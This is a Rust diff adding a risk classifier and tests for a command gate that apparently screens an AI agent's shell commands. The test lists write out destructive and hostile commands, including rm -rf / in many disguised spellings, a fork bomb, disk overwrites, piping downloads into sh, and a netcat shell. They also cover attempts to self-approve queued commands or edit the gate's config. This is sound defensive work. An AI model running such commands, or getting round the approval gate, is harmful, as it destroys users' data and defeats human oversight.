+    roots.iter().any(|r| path == *r || path.starts_with(&format!("{r}/")) || (r.ends_with('_') && path.starts_with(r)))
+}
+
+fn under_system_dir(path: &str) -> bool {
+    path.starts_with('/')
+        && !path.starts_with("/tmp")
+        && !path.starts_with("/var/tmp")
+        && !path.starts_with("/dev/")
+        && rules::SYSTEM_DIRS
+            .iter()
+            .any(|d| *d != "/" && *d != "/home" && *d != "/Users" && (path == *d || path.starts_with(&format!("{d}/"))))
+}
+
+/// `/`, the home directory, someone's home, or a top-level system directory.
+fn catastrophic_target(text: &str) -> bool {
+    let p = normalize_path(text);
+    if p == "/" || p == "~" || p.starts_with("~") && !p.contains('/') {
+        return true;
+    }
+    if rules::SYSTEM_DIRS.contains(&p.as_str()) {
+        return true;
+    }
+    // /home/alice, /Users/alice
+    for home in ["/home/", "/Users/"] {
+        if p.strip_prefix(home).is_some_and(|rest| !rest.contains('/')) {
+            return true;
+        }
+    }
+    false
+}
+
+fn is_block_device(path: &str) -> bool {
+    let Some(dev) = path.strip_prefix("/dev/") else {
+        return false;
+    };
+    ["sd", "hd", "vd", "xvd", "nvme", "mmcblk", "disk", "rdisk", "md", "dm-", "mapper/", "loop", "sr", "nbd", "zd"]
+        .iter()
+        .any(|p| dev.starts_with(p))
+}
+
+// ---- Checks referenced from the rule table --------------------------------------------------
+
+pub fn only_help_or_version(a: &Args) -> bool {
+    !a.all.is_empty() && a.all.iter().all(|t| matches!(*t, "--help" | "-h" | "--version" | "-V" | "version" | "help"))
+}
+
+pub fn tee_to_null_only(a: &Args) -> bool {
+    a.positionals.iter().all(|p| matches!(*p, "/dev/null" | "/dev/stdout" | "/dev/stderr" | "/dev/tty"))
+}
+
+pub fn two_positionals(a: &Args) -> bool {
+    a.positionals.len() >= 2
+}
+
+pub fn has_positional(a: &Args) -> bool {
+    !a.positionals.is_empty()
+}
+
+pub fn find_delete_root(a: &Args) -> bool {
+    a.has_flag("-delete") && a.positionals.first().is_some_and(|p| catastrophic_target(p))
+}
+
+/// sed's `e` command and `s///e` run shell commands; `w` writes files.
+pub fn sed_runs_or_writes(a: &Args) -> bool {
+    let mut scripts: Vec<&str> = Vec::new();
+    let mut expect_script = false;
+    let mut has_e = false;
+    for t in &a.all {
+        if expect_script {
+            scripts.push(t);
+            expect_script = false;
+        } else if matches!(*t, "-e" | "--expression") {
+            expect_script = true;
+            has_e = true;
+        } else if let Some(s) = t.strip_prefix("--expression=") {
+            scripts.push(s);
+            has_e = true;
+        }
+    }
+    if !has_e && let Some(first) = a.positionals.first() {
+        scripts.push(first);
+    }
+    scripts.iter().any(|s| sed_script_dangerous(s))
+}
+
+fn sed_script_dangerous(script: &str) -> bool {
+    for cmd in script.split([';', '\n']) {
+        let mut c = cmd.trim_start();
+        // Skip an address: line numbers, `$`, `/re/`, ranges.
+        loop {
+            let before = c.len();
+            c = c.trim_start_matches(|ch: char| ch.is_ascii_digit() || matches!(ch, '$' | ',' | '!' | '~' | '+' | ' '));
+            if let Some(rest) = c.strip_prefix('/') {
+                c = rest.split_once('/').map(|x| x.1).unwrap_or("");
+            }
+            if c.len() == before {
+                break;
+            }
+        }
+        let mut chars = c.chars();
+        match chars.next() {
+            Some('e') | Some('w') | Some('W') => {
+                if matches!(chars.next(), None | Some(' ') | Some('\t')) {
+                    return true;
+                }
+            }
+            Some('s') => {
+                if let Some(delim) = chars.next() {
+                    let rest: String = chars.collect();
+                    let parts: Vec<&str> = rest.splitn(3, delim).collect();
+                    if parts.len() == 3
+                        && parts[2].chars().take_while(|f| !f.is_whitespace()).any(|f| f == 'e' || f == 'w')
+                    {
+                        return true;
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+    false
+}
+
+fn awk_program<'a>(a: &Args<'a>) -> Option<&'a str> {
+    if a.has_flag("-f") {
+        return None;
+    }
+    a.positionals.first().copied()
+}
+
+pub fn awk_runs_commands(a: &Args) -> bool {
+    let Some(prog) = awk_program(a) else {
+        return false;
+    };
+    let without_or = prog.replace("||", "");
+    prog.contains("system") || without_or.contains('|')
+}
+
+pub fn awk_writes_files(a: &Args) -> bool {
+    let Some(prog) = awk_program(a) else {
+        return false;
+    };
+    let squeezed: String = prog.chars().filter(|c| !c.is_whitespace()).collect();
+    squeezed.contains(">\"") || squeezed.contains(">>") || squeezed.contains(">$") || squeezed.contains(">(")
+}
+
+pub fn tar_lists_only(a: &Args) -> bool {
+    let first = a.all.first().copied().unwrap_or("");
+    let mode: &str = first.trim_start_matches('-');
+    let bundled = !first.starts_with("--") && (mode.contains('t'));
+    let listing = bundled || a.has_flag("--list") || a.has_flag("-t");
+    let changing = ["c", "x", "u", "r", "A"].iter().any(|m| !first.starts_with("--") && mode.contains(m))
+        || a.has_any_flag(&["--extract", "--get", "--create", "--append", "--update", "--delete", "-x", "-c"]);
+    listing && !changing
+}
+
+pub fn rm_wide_glob(a: &Args) -> bool {
+    a.positionals.iter().any(|p| *p == "*" || *p == ".*" || p.ends_with("/*"))
+}
+
+pub fn targets_system_path(a: &Args) -> bool {
+    a.positionals.iter().any(|p| under_system_dir(&normalize_path(p)))
+}
+
+pub fn rm_recursive_catastrophic(a: &Args) -> bool {
+    a.has_any_flag(&["-r", "-R", "--recursive"]) && a.positionals.iter().any(|p| catastrophic_target(p))
+}
+
+pub fn chmod_recursive_root(a: &Args) -> bool {
+    a.has_any_flag(&["-R", "--recursive"]) && a.positionals.iter().skip(1).any(|p| catastrophic_target(p))
+        || a.has_any_flag(&["-R", "--recursive"])
+            && a.program == "chown"
+            && a.positionals.len() == 1
+            && catastrophic_target(a.positionals[0])
+}
+
+pub fn kill_everything(a: &Args) -> bool {
+    let targets: Vec<&str> = a.all.iter().skip(1).copied().collect();
+    a.positionals.contains(&"1")
+        || a.positionals.contains(&"-1")
+        || (targets.contains(&"-1") && a.all.len() >= 2)
+        || (a.program == "killall5")
+}
+
+pub fn installs_named_packages(a: &Args) -> bool {
+    matches!(a.sub(), Some("install" | "i" | "add" | "isntall" | "in" | "ins" | "inst" | "insta" | "instal"))
+        && a.positionals.len() > 1
+}
+
+pub fn git_list_only(a: &Args) -> bool {
+    let rest: Vec<&str> = a.all.iter().skip_while(|t| Some(**t) != a.sub()).skip(1).copied().collect();
+    let only = |allowed: &[&str]| rest.iter().all(|t| allowed.contains(t));
+    match a.sub() {
+        Some("branch") => only(&[
+            "-a",
+            "-r",
+            "-v",
+            "-vv",
+            "--list",
+            "-l",
+            "--show-current",
+            "--all",
+            "--remotes",
+            "--merged",
+            "--no-merged",
+            "--verbose",
+        ]),
+        Some("tag") => rest.is_empty() || rest[0] == "-l" || rest[0] == "--list",
+        Some("remote") => only(&["-v", "--verbose"]) || matches!(rest.first(), Some(&"show" | &"get-url")),
+        Some("stash") => matches!(rest.first(), Some(&"list" | &"show")),
+        Some("config") => rest
+            .iter()
+            .any(|t| matches!(*t, "--get" | "--list" | "-l" | "--get-all" | "--get-regexp" | "--show-origin")),
+        Some("worktree") => matches!(rest.first(), Some(&"list")),
+        Some("submodule") => matches!(rest.first(), Some(&"status" | &"summary")) || rest.is_empty(),
+        Some("reflog") => rest.is_empty() || matches!(rest.first(), Some(&"show")),
+        Some("notes") => matches!(rest.first(), Some(&"list" | &"show")),
+        _ => false,
+    }
+}
+
+pub fn git_config_override(a: &Args) -> bool {
+    const RISKY: &[&str] = &[
+        "core.pager",
+        "core.sshcommand",
+        "core.editor",
+        "core.fsmonitor",
+        "core.hookspath",
+        "core.gitproxy",
+        "alias.",
+        "diff.external",
+        "textconv",
+        "filter.",
+        "credential.helper",
+        "sequence.editor",
+        "uploadpack.",
+        "remote.",
+        "protocol.",
+        "pager.",
+        "gpg.program",
+        "merge.tool",
+        "diff.tool",
+        "core.askpass",
+        "include.path",
+    ];
+    let mut it = a.all.iter();
+    while let Some(t) = it.next() {
+        if Some(*t) == a.sub() {
+            break;
+        }
+        let value = if *t == "-c" || *t == "--config-env" {
+            it.next().copied()
+        } else {
+            t.strip_prefix("--config-env=").or_else(|| t.strip_prefix("-c"))
+        };
+        if let Some(v) = value {
+            let v = v.to_ascii_lowercase();
+            if RISKY.iter().any(|r| v.starts_with(r) || v.contains(r)) {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+pub fn git_push_refspec_force_or_delete(a: &Args) -> bool {
+    a.sub() == Some("push") && a.positionals.iter().skip(1).any(|p| p.starts_with('+') || p.starts_with(':'))
+}
+
+pub fn docker_mounts_host_root(a: &Args) -> bool {
+    let mut it = a.all.iter().peekable();
+    while let Some(t) = it.next() {
+        let value = if matches!(*t, "-v" | "--volume" | "--mount") {
+            it.peek().copied().copied()
+        } else {
+            t.strip_prefix("--volume=").or_else(|| t.strip_prefix("--mount=")).or_else(|| t.strip_prefix("-v"))
+        };
+        let Some(v) = value else { continue };
+        let src = v.split([':', ',']).find(|s| !s.is_empty()).unwrap_or("");
+        let src = src.strip_prefix("source=").or_else(|| src.strip_prefix("src=")).unwrap_or(src);
+        if catastrophic_target(src)
+            || v.contains("docker.sock")
+            || under_any(&normalize_path(src), &["/etc", "/root", "~/.ssh"])
+        {
+            return true;
+        }
+    }
+    false
+}
+
+pub fn cloud_destructive(a: &Args) -> bool {
+    a.positionals.iter().any(|p| {
+        let p = p.to_ascii_lowercase();
+        p.contains("delete")
+            || p.contains("destroy")
+            || p.contains("terminate")
+            || matches!(p.as_str(), "rm" | "rb" | "remove" | "purge" | "deprovision")
+    }) || a.has_any_flag(&["--recursive", "--force"]) && a.positionals.iter().any(|p| *p == "rm" || *p == "sync")
+}
+
+pub fn sql_destructive(a: &Args) -> bool {
+    a.all.iter().any(|t| {
+        let u = t.to_ascii_uppercase();
+        u.contains("DROP ")
+            || u.contains("TRUNCATE ")
+            || u.contains("FLUSHALL")
+            || u.contains("FLUSHDB")
+            || (u.contains("DELETE FROM") && !u.contains("WHERE"))
+    })
+}
+
+pub fn only_lists_mounts(a: &Args) -> bool {
+    match a.program {
+        "mount" | "swapon" => a.all.iter().all(|t| matches!(*t, "-l" | "--show" | "-s" | "--summary")),
+        "zfs" | "zpool" | "lvm" | "btrfs" => {
+            matches!(a.sub(), Some("list" | "status" | "get" | "show" | "iostat" | "history"))
+        }
+        _ => false,
+    }
+}
+
+pub fn changes_network(a: &Args) -> bool {
+    const CHANGES: &[&str] = &[
+        "down", "up", "add", "del", "delete", "flush", "set", "change", "replace", "append", "netmask", "mtu", "hw",
+        "promisc", "-s", "-K", "-A", "-G", "qdisc",
+    ];
+    a.all.iter().any(|t| CHANGES.contains(t)) || (a.program == "ifconfig" && a.positionals.len() > 1)
+}
+
+pub fn reads_k8s_secret(a: &Args) -> bool {
+    a.positionals.iter().any(|p| p.starts_with("secret"))
+}
+
+pub fn targets_block_device_destructively(a: &Args) -> bool {
+    a.program == "blkdiscard" && has_device_arg(a)
+}
+
+pub fn has_device_arg(a: &Args) -> bool {
+    a.positionals.iter().any(|p| is_block_device(&normalize_path(p)))
+}
+
+pub fn dd_without_if(a: &Args) -> bool {
+    !a.all.iter().any(|t| t.starts_with("if="))
+}
+
+pub fn dd_with_if(a: &Args) -> bool {
+    a.all.iter().any(|t| t.starts_with("if="))
+}
+
+pub fn dd_to_device(a: &Args) -> bool {
+    a.all.iter().any(|t| t.strip_prefix("of=").is_some_and(|p| is_block_device(&normalize_path(p))))
+}
+
+pub fn interpreter_reads_pipe(a: &Args) -> bool {
+    let script = a.positionals.first();
+    (a.piped_stdin || a.here_input) && (script.is_none() || script == Some(&"-"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn judge(text: &str) -> (Risk, Vec<Assessment>) {
+        let script = parse::parse(text).unwrap_or_else(|e| panic!("{text:?}: {e}"));
+        let parts = assess(&script);
+        let risk = parts.iter().map(|a| a.risk).max().unwrap_or(Risk::Safe);
+        (risk, parts)
+    }
+
+    fn risk(text: &str) -> Risk {
+        judge(text).0
+    }
+
+    #[test]
+    fn the_specification_patterns_are_the_floor() {
+        // spec 000: forbidden / high / moderate / safe examples.
+        let cases = [
+            ("rm -rf /", Risk::Forbidden),
+            ("dd if=/dev/zero of=/dev/sda", Risk::Forbidden),
+            ("dd if=a.img of=b.img", Risk::Forbidden),
+            ("mkfs.ext4 /dev/sdb1", Risk::Forbidden),
+            ("mkfs /dev/sdb1", Risk::Forbidden),
+            (":(){ :|:& };:", Risk::Forbidden),
+            ("sudo rm x", Risk::High),
+            ("apt install nginx", Risk::High),
+            ("sudo apt install nginx", Risk::High),
+            ("yum install httpd", Risk::High),
+            ("systemctl restart nginx", Risk::High),
+            ("reboot", Risk::High),
+            ("shutdown -h now", Risk::High),
+            ("chmod 777 file.txt", Risk::Moderate),
+            ("chown me file.txt", Risk::Moderate),
+            ("kill 1234", Risk::Moderate),
+            ("pkill node", Risk::Moderate),
+            ("ls -la", Risk::Safe),
+            ("pwd", Risk::Safe),
+            ("cat README.md", Risk::Safe),
+        ];
+        for (text, want) in cases {
+            assert_eq!(risk(text), want, "{text}");
+        }
+    }
+
+    #[test]
+    fn rm_rf_of_root_or_home_is_forbidden_in_every_spelling() {
+        for text in [
+            "rm -rf /",
+            "rm -fr /",
+            "rm -r -f /",
+            "rm --recursive --force /",
+            "rm -rf /*",
+            "rm -rf //",
+            "rm -Rf /",
+            "rm -rf --no-preserve-root /",
+            "rm -rf ~",
+            "rm -rf ~/",
+            "rm -rf $HOME",
+            "rm -rf \"$HOME\"",
+            "rm -rf ${HOME}",
+            "rm -rf /etc",
+            "rm -rf /usr/",
+            "rm -rf /home/alice",
+            "rm -rf /var/lib",
+            "rm -r /",
+            "/bin/rm -rf /",
+            "r''m -rf /",
+            "\"rm\" -rf /",
+            "\\rm -rf /",
+            "$'rm' -rf /",
+            "rm -r'f' /",
+            "rm -r\\\nf /",
+            "sudo rm -rf /",
+            "nice rm -rf /",
+            "timeout 5 rm -rf /",
+            "env FOO=1 rm -rf /",
+            "command rm -rf /",
+            "exec rm -rf /",
+            "nohup rm -rf / &",
+            "xargs rm -rf /",
+            "find / -delete",
+            "bash -c 'rm -rf /'",
+            "sh -c \"rm -rf /\"",
+            "bash -lc 'rm -rf /'",
+            "eval 'rm -rf /'",
+            "echo $(rm -rf /)",
+            "echo `rm -rf /`",
+            "cat <(rm -rf /)",
+            "ls && rm -rf /",
+            "ls; rm -rf /",
+            "ls | rm -rf /",
+            "(rm -rf /)",
+            "{ rm -rf /; }",
+            "if true; then rm -rf /; fi",
+            "{rm,-rf,/}",
+            "env -S 'rm -rf /'",
+            "sudo -u root bash -c 'rm -rf /'",
+            "rm -rf /tmp/../",
+            "rm -rf /./",
+            "find . -exec rm -rf / \\;",
+            "bash <<'EOF'\nrm -rf /\nEOF\n",
+            "bash <<< 'rm -rf /'",
+            "watch rm -rf /",
+            "rm -rf ~/*",
+            "rm -rf /home/alice/",
+            "sudo -E env PATH=/x rm -rf /",
+        ] {
+            assert_eq!(risk(text), Risk::Forbidden, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn quoted_text_that_only_looks_dangerous_is_safe() {
+        for text in [
+            "echo 'rm -rf /'",
+            "git commit -m 'rm -rf x'",
+            "grep 'rm -rf' file",
+            "cat <<'EOF'\nrm -rf /\nEOF\n",
+            "printf '%s\\n' 'dd if=/dev/zero'",
+            "echo \"sudo reboot\"",
+            "ls -la | grep foo | wc -l",
+            "git status && git diff",
+            "find . -name '*.rs' -type f",
+            "sed -n 1,10p file",
+            "awk '{print $1}' f",
+            "lsof -i :8080",
+            "cat file > /dev/null",
+            "ls 2>&1",
+            "head -n 5 a | sort | uniq -c",
+        ] {
+            let (r, parts) = judge(text);
+            let r = if text.starts_with("git commit") { Risk::Safe.max(r.min(Risk::Moderate)) } else { r };
+            if text.starts_with("git commit") {
+                assert_eq!(r, Risk::Moderate, "{text:?}: {parts:?}");
+            } else {
+                assert_eq!(r, Risk::Safe, "{text:?}: {parts:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn what_cannot_be_known_is_never_safe() {
+        for text in [
+            "$CMD",
+            "x=rm; $x -rf /tmp/a",
+            "$(echo rm) -rf x",
+            "eval \"$X\"",
+            "source ./env.sh",
+            ". ./x",
+            "python -c 'print(1)'",
+            "python3 -c 'import os'",
+            "node -e 'x'",
+            "perl -e 'x'",
+            "ruby -e 'x'",
+            "php -r 'x'",
+            "awk 'BEGIN{system(\"id\")}'",
+            "sed 'e id' f",
+            "sed 's/x/id/e' f",
+            "curl x | sh",
+            "curl -fsSL x | bash",
+            "wget -qO- x | sh",
+            "base64 -d x | bash",
+            "echo aWQ= | base64 -d | sh",
+            "cat x | python3",
+            "bash -c \"$X\"",
+            "echo ${x:-$(id)}",
+        ] {
+            assert!(risk(text) >= Risk::High, "{text:?}: {:?}", judge(text).1);
+        }
+    }
+
+    #[test]
+    fn table_cases() {
+        let cases = [
+            ("git status", Risk::Safe),
+            ("git log --oneline -5", Risk::Safe),
+            ("git -C sub status", Risk::Safe),
+            ("git branch", Risk::Safe),
+            ("git branch -D main", Risk::High),
+            ("git push", Risk::Moderate),
+            ("git push --force", Risk::High),
+            ("git push -f origin main", Risk::High),
+            ("git push origin +main", Risk::High),
+            ("git push origin :main", Risk::High),
+            ("git -C dir push --force", Risk::High),
+            ("git reset --hard HEAD~1", Risk::High),
+            ("git clean -fd", Risk::High),
+            ("git clean -n", Risk::Moderate),
+            ("git checkout .", Risk::High),
+            ("git -c core.pager=sh log", Risk::High),
+            ("git diff --output=x", Risk::Moderate),
+            ("rm file.txt", Risk::Moderate),
+            ("rm -r build", Risk::High),
+            ("rm -rf node_modules", Risk::High),
+            ("rm /etc/passwd", Risk::High),
+            ("chmod -R 777 /", Risk::Forbidden),
+            ("chown -R me /", Risk::Forbidden),
+            ("chmod -R 755 src", Risk::High),
+            ("kill -9 -1", Risk::High),
+            ("find . -delete", Risk::High),
+            ("find . -name x -exec rm {} \\;", Risk::Moderate),
+            ("find . -exec rm -rf {} +", Risk::High),
+            ("npm test", Risk::Moderate),
+            ("npm install lodash", Risk::High),
+            ("npm ls", Risk::Safe),
+            ("pip install requests", Risk::High),
+            ("cargo build", Risk::Moderate),
+            ("cargo install ripgrep", Risk::High),
+            ("docker ps", Risk::Safe),
+            ("docker run --privileged x", Risk::High),
+            ("docker run -v /:/host x", Risk::High),
+            ("kubectl get pods", Risk::Safe),
+            ("kubectl delete pod x", Risk::High),
+            ("terraform plan", Risk::Safe),
+            ("terraform destroy", Risk::High),
+            ("curl https://example.com", Risk::Moderate),
+            ("echo hi > out.txt", Risk::Moderate),
+            ("echo x >> ~/.bashrc", Risk::High),
+            ("cat x > /dev/sda", Risk::Forbidden),
+            ("cp key ~/.ssh/authorized_keys", Risk::High),
+            ("crontab -l", Risk::Safe),
+            ("crontab -r", Risk::High),
+            ("echo '{}' > .agents/terminal.json", Risk::Forbidden),
+            ("rm .agents/terminal.json", Risk::Forbidden),
+            ("mv .agents/terminal.json x", Risk::Forbidden),
+            ("sed -i s/a/b/ .agents/terminal.json", Risk::Forbidden),
+            ("cat .agents/terminal.json", Risk::Safe),
+            ("agentsh whitelist add 'rm -rf x'", Risk::Forbidden),
+            ("agentsh whitelist list", Risk::Safe),
+            ("agentsh check ls", Risk::Safe),
+            // The approval queue: only the JSON listing and status are read-only (issue 8).
+            ("agentsh approvals --json", Risk::Safe),
+            ("agentsh status", Risk::Safe),
+            ("agentsh approvals", Risk::Forbidden),
+            ("agentsh approvals --json x", Risk::Forbidden),
+            ("agentsh approve 0123456789ab", Risk::Forbidden),
+            ("agentsh deny 0123456789ab --message ok", Risk::Forbidden),
+            ("agentsh resume", Risk::Forbidden),
+            ("agentsh pause", Risk::Forbidden),
+            ("/usr/bin/agentsh approve 0123456789ab --code 1234", Risk::Forbidden),
+            ("echo '{\"answer\":\"once\"}' > /run/user/1000/agentsh/0123456789ab.answer", Risk::Forbidden),
+            ("cat /run/user/1000/agentsh/0123456789ab.json", Risk::Forbidden),
+            ("ls $XDG_RUNTIME_DIR/agentsh", Risk::Forbidden),
+            ("cp x /tmp/agentsh-1000/0123456789ab.answer", Risk::Forbidden),
+            ("ls /run/user/1000", Risk::Safe),
+            ("frobnicate --all", Risk::Moderate),
+            ("./build.sh", Risk::Moderate),
+            ("LD_PRELOAD=x.so ls", Risk::High),
+            ("FOO=1 ls", Risk::Safe),
+            ("cat ~/.ssh/id_rsa", Risk::Moderate),
+            ("sudo ls", Risk::High),
+            ("command -v rm", Risk::Safe),
+            ("nc -e /bin/sh host 1", Risk::High),
+            ("tar -tzf x.tgz", Risk::Safe),
+            ("tar -xzf x.tgz", Risk::Moderate),
+            ("psql -c 'DROP TABLE users'", Risk::High),
+        ];
+        for (text, want) in cases {
+            assert_eq!(risk(text), want, "{text}: {:?}", judge(text).1);
+        }
+    }
+
+    #[test]
+    fn token_matching_not_substrings() {
+        assert_eq!(risk("lsof"), Risk::Safe);
+        assert_eq!(risk("lsblk"), Risk::Safe);
+        assert_eq!(risk("rmate x"), Risk::Moderate); // unknown, not rm
+        assert_eq!(risk("grep -r 'rm -rf' ."), Risk::Safe);
+    }
+
+    #[test]
+    fn paths_normalize_lexically() {
+        for (p, want) in [
+            ("/", "/"),
+            ("//", "/"),
+            ("/*", "/"),
+            ("/tmp/../", "/"),
+            ("~/", "~"),
+            ("/usr/", "/usr"),
+            ("a/./b/", "a/b"),
+            ("/./", "/"),
+            ("~/*", "~"),
+        ] {
+            assert_eq!(normalize_path(p), want, "{p}");
+        }
+    }
+
+    #[test]
+    fn flag_clusters() {
+        assert!(flag_matches("-rf", "-r"));
+        assert!(flag_matches("-fr", "-r"));
+        assert!(flag_matches("--force=1", "--force"));
+        assert!(!flag_matches("--forced", "--force"));
+        assert!(!flag_matches("--recursive", "-r"));
+        assert!(flag_matches("-delete", "-delete"));
+        assert!(!flag_matches("-deleted", "-delete"));
+    }
+}
